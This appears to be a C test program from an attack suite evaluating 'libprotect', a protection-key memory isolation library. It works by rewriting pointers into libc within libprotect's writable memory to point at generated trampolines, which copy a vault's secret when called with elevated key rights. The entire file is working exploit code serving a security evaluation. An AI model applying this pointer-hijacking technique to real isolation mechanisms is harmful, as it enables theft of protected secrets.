/* libprotect's interposed dlopen and pthread_create, called by a library,
 * run with the library's rights and call libc's through a pointer: the
 * attacker finds every word of libprotect's writable memory that points
 * into libc's code and points each at a trampoline of its own, which looks
 * at the rights it is called with (copying the secret if they open the
 * library) and goes on to the function it replaced.  Then the vault starts
 * a thread and loads libm.  next_pointers */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"

#include <stdint.h>
#include <sys/mman.h>

static uint32_t app_rights;
static uint8_t copy[VAULT_SECRET_LEN];
static volatile int opened;

static uint32_t rdpkru(void)
{
    uint32_t eax, edx;
    __asm__ volatile("rdpkru" : "=a"(eax), "=d"(edx) : "c"(0));
    return eax;
}

__attribute__((used)) static void look(void)
{
    if (opened || (rdpkru() & app_rights) == app_rights)
        return; /* no key more open than the application's */
    opened = 1;
    const volatile uint8_t *secret = vault_address(VAULT_DATA)->secret;
    for (int i = 0; i < VAULT_SECRET_LEN; i++)
        copy[i] = secret[i];
}

/* Every argument register kept; r11 holds the function replaced. */
__asm__(".text\n"
        "trampoline_common:\n"
        "  push %rdi\n push %rsi\n push %rdx\n push %rcx\n push %r8\n push %r9\n push %rax\n push %r11\n"
        "  sub $8, %rsp\n"
        "  call look\n"
        "  add $8, %rsp\n"
        "  pop %r11\n pop %rax\n pop %r9\n pop %r8\n pop %rcx\n pop %rdx\n pop %rsi\n pop %rdi\n"
        "  jmp *%r11\n");
void trampoline_common(void);

/* libc's executable mapping. */
static int libc_text(uintptr_t *lo, uintptr_t *hi)
{
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[512];
    int found = 0;
    while (maps && !found && fgets(line, sizeof line, maps))
        if (strstr(line, "/libc.so.6") && strstr(line, " r-xp "))
            found = sscanf(line, "%lx-%lx", lo, hi) == 2;
    if (maps)
        fclose(maps);
    return found;
}

int main(void)
{
    vault_open();
    app_rights = rdpkru();
    uintptr_t lo, hi;
    if (!libc_text(&lo, &hi))
        blocked("libc's code not found");
    struct mapping m[32];
    int n = libprotect_mappings(m, 32), found = 0;
    static uintptr_t *where[256], was[256];
    for (int i = 0; i < n; i++) {
        if (m[i].perms[1] != 'w')
            continue;
        for (uintptr_t *w = (uintptr_t *)m[i].lo; w < (uintptr_t *)m[i].hi && found < 256; w++)
            if (*w - lo < hi - lo)
                where[found++] = w;
    }
    if (!found)
        blocked("no pointer into libc's code in libprotect's writable memory");
    /* One trampoline each: mov r10, common; mov r11, original; jmp r10. */
    uint8_t *code = mmap(NULL, 4096 * 2, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    for (int i = 0; i < found; i++) {
        uint8_t *t = code + i * 24;
        uintptr_t common = (uintptr_t)trampoline_common;
        was[i] = *where[i];
        t[0] = 0x49, t[1] = 0xba, memcpy(t + 2, &common, 8);
        t[10] = 0x49, t[11] = 0xbb, memcpy(t + 12, &was[i], 8);
        t[20] = 0x41, t[21] = 0xff, t[22] = 0xe2;
    }
    if (mprotect(code, 4096 * 2, PROT_READ | PROT_EXEC) != 0)
        blocked_errno("making the trampolines executable");
    for (int i = 0; i < found; i++)
        *where[i] = (uintptr_t)(code + i * 24);
    int r = vault_use_libc();
    for (int i = 0; i < found; i++)
        *where[i] = was[i];
    if (opened && vault_matches(VAULT_DATA, copy))
        breached("read the library's secret through a pointer libprotect follows with its rights");
    char msg[128];
    snprintf(msg, sizeof msg, "%d pointer(s) into libc rewritten, none followed with the library's rights (the vault: %d)",
             found, r);
    blocked(msg);
}
